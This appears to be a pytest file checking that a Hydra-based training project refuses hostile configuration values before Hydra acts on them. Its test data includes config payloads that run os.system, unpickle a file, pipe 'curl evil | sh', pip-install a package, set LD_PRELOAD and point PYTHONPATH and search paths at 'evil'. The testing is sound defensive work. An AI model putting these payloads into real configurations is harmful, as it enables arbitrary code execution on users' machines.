"""What a config may make Hydra build, log and set, checked when the config is composed."""

import pytest
from helpers.project import TINY, compose
from omegaconf import OmegaConf, open_dict, read_write

from fer_lightning.config.hydra_limits import check_hydra, settle_plugins
from fer_lightning.process.errors import ConfigError

RESOLVER = "${oc.create:{_target_: pandas.read_pickle, filepath_or_buffer: evil.pkl}}"

HOSTILE = {
    "callbacks.x": {"_target_": "fer_lightning.sweep.callback.StudyCallback"},
    "callbacks": {},
    "callbacks.study._target_": "os.system",
    "launcher": "${oc.create:{_target_: os.system}}",
    "launcher._target_": "hydra_plugins.${hydra.job.name}",
    "launcher.x": {"_target_": "hydra_plugins.fer_lightning.shared_launcher.SharedLauncher"},
    "sweeper.sampler": {"_target_": "optuna.samplers._base.os.system"},
    "sweeper._args_": [{"_target_": "pandas.read_pickle"}],
    "launcher.setup": ["curl evil | sh"],
    "launcher.additional_parameters": {"wrap": "sh"},
    "launcher.ray": {"init": {"runtime_env": {"pip": ["evil"]}}},
    "job_logging": "${oc.create:{version: 1}}",
    "job_logging.handlers": "${recipe}",
    "job_logging.handlers.file.class": "logging.handlers.SocketHandler",
    "job_logging.handlers.file.filename": "${hydra.runtime.output_dir}/${recipe.name}",
    "job_logging.handlers.console.stream": "ext://os.system",
    "job_logging.filters": {"x": {"()": "os.system"}},
    "job_logging.formatters.simple.()": "os.system",
    "hydra_logging.handlers.console": {"class": "logging.StreamHandler", ".": {"stream": 1}},
    "hydra_logging.root.level": RESOLVER,
    "job.env_set": {"PYTHONPATH": "evil"},
    "job.name": "${recipe.name}",
    "searchpath": ["pkg://evil"],
}


def composed(*overrides):
    config = compose(*TINY, *overrides, return_hydra_config=True)
    OmegaConf.set_struct(config, False)
    OmegaConf.set_readonly(config.hydra, True)  # as while Hydra runs
    return config


@pytest.mark.parametrize("key", HOSTILE)
def test_a_file_that_makes_hydra_act_is_refused_before_hydra_does(key):
    config = composed()
    with read_write(config.hydra), open_dict(config.hydra):
        OmegaConf.update(config, f"hydra.{key}", HOSTILE[key], merge=False, force_add=True)
        if ".()" in key:
            config.hydra.job_logging.formatters.simple = {"()": HOSTILE[key]}
        config.recipe = {"name": "../x"}
    with pytest.raises(ConfigError, match=r"^hydra\."):
        check_hydra(config.hydra)


def test_every_config_that_is_composed_is_checked():
    """Also that of a job, whose recipe may be swept."""
    with pytest.raises(ConfigError, match=r"hydra\.job\.env_set\.LD_PRELOAD is refused"):
        compose(*TINY, "+hydra.job.env_set.LD_PRELOAD=evil.so")


@pytest.mark.parametrize(
    "overrides",
    [
        *(["hydra/launcher=joblib"], ["hydra/launcher=submitit_slurm", "hydra.launcher.setup=[module load cuda]"]),
        *(["hydra/sweeper=optuna", "hydra.sweeper.sampler._target_=optuna.samplers.RandomSampler"], ["hydra/job_logging=stdout"]),
        *(["hydra/job_logging=disabled", "hydra/hydra_logging=none"], ["+hydra.job.env_set.NCCL_DEBUG=INFO"], ["hydra.job.name=mine"]),
    ],
)
def test_what_a_command_needs_of_hydra_is_allowed(overrides):
    check_hydra(composed(*overrides).hydra)


@pytest.mark.parametrize("hidden", [RESOLVER, "\\" + RESOLVER, "${recipe.dollar}" + RESOLVER[1:]])
def test_a_sweeper_is_built_from_what_was_checked(hidden):
    config = composed("hydra/sweeper=optuna")
    config.recipe = {"dollar": "$"}
    with read_write(config.hydra), open_dict(config.hydra):
        config.hydra.sweeper.sampler.x = hidden
    with pytest.raises(ConfigError, match=r"^hydra\.sweeper\.sampler\.x"):
        settle_plugins(config)


def test_settled_plugins_hold_no_reference():
    config = composed("hydra/launcher=submitit_local", "hydra.sweep.dir=study")
    settle_plugins(config)
    assert OmegaConf.to_container(config.hydra.launcher, resolve=False)["submitit_folder"] == "study/.submitit/%j"
